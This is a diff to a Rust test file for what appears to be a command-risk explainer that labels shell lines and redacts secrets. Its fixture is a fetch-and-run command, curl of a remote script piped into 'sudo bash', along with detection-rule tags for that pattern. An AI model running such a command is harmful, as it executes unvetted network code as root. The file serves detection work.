@@ -45,10 +45,11 @@ fn risky() -> Explanation {
         title: "A script from the network goes straight into a shell".to_owned(),
         level: Risk::High,
         axis: Axis::Threat,
-        tags: vec!["attack.execution".to_owned(), "attack.t1059.004".to_owned()],
-        fields: vec!["Karo.PipedIntoShell: true".to_owned()],
+        tags: vec!["karo.threat".to_owned(), "attack.execution".to_owned(), "attack.t1059.004".to_owned()],
+        fields: vec!["Karo.PipedFrom: curl".to_owned(), "Karo.Scope: run".to_owned()],
         run: Some(2),
     };
+    let line = Match { fields: vec!["CommandLine: curl x".to_owned()], run: None, ..found.clone() };
     let low = Match {
         id: "in-background".to_owned(),
         title: "Nobody\u{1b}[2J waits".to_owned(),
@@ -72,7 +73,7 @@ fn risky() -> Explanation {
         categories: vec![Category::Shell, Category::Network, Category::Identity],
         risk: Some(Risk::High),
         axis: Some(Axis::Threat),
-        matches: vec![found.clone(), Match { run: None, ..found }, low],
+        matches: vec![found, line, low],
         is_cut: false,
     }
 }
@@ -101,31 +102,32 @@ fn surface(columns: Option<usize>) -> Surface {
 fn a_risky_line_is_explained_from_top_to_bottom() {
     let expected = "\
 LINE      curl -su ada:‹secret:password› https://x/i.sh | sudo bash &
-RISK      high, threat: it looks like an attacker's deed
+RISK      high, threat: attackers type such lines
 CATEGORY  network; also shell and identity
+SECRETS   1 replaced: Karo keeps the marker, never the secret
 
 WHAT RUNS
 1  curl -su ada:‹secret:password› https://x/i.sh
-      network, by the row `curl` (95 % sure); writes what the next one reads; in
-      the background
+      network, known as `curl`; writes what the next one reads; in the
+      background
 2  sudo bash
-   │  identity, by the row `sudo` (90 % sure); reads what the one before it
-   │  writes; in the background
+   │  identity, known as `sudo`; reads what the one before it writes; in the
+   │  background
 3  └─ bash
-         shell, by the row `bash` (60 % sure); with another's rights; reads what
-         the one before it writes; in the background
+         shell, a guess from `bash`; as root or another user; reads what the one
+         before it writes; in the background
 
 RULES THAT MATCHED
 high           A script from the network goes straight into a shell
-               threat; rule piped-into-shell; attack.execution; attack.t1059.004
-               run 3: Karo.PipedIntoShell: true
-               the whole line: Karo.PipedIntoShell: true
+               threat; attack.execution, attack.t1059.004; rule piped-into-shell
+               program 3, by Karo.PipedFrom: curl
+               the whole line, by CommandLine
 informational  Nobody\\x1b[2J waits
                hazard; rule in-background
-               the whole line: matched
+               the whole line
 
-SECRETS LEFT OUT
-password: value of curl -u (bytes 13 to 20)
+SECRETS REPLACED
+‹secret:password›  value of curl -u, bytes 13 to 20 of the line
 ";
     assert_eq!(text::text(&risky(), &surface(Some(80))), expected);
 }
@@ -140,7 +142,7 @@ SECRETS   none found
 
 WHAT RUNS
 1  ls -la
-      file, by the row `ls` (99 % sure)
+      file, known as `ls`
 ";
     assert_eq!(text::text(&harmless(), &surface(None)), expected);
     let words = Explanation { is_parsed: false, runs: Vec::new(), is_cut: true, ..harmless() };
@@ -149,7 +151,7 @@ LINE      ls -la
 RISK      none: no rule matched
 CATEGORY  file
 SECRETS   none found
-READ      as mere words, for its quotes and brackets are not those of a whole command
+READ      word by word only: its quotes or brackets do not close, or it is too long or too deep
 RUNS      nothing
 There is more in this line than an answer holds.
 ";
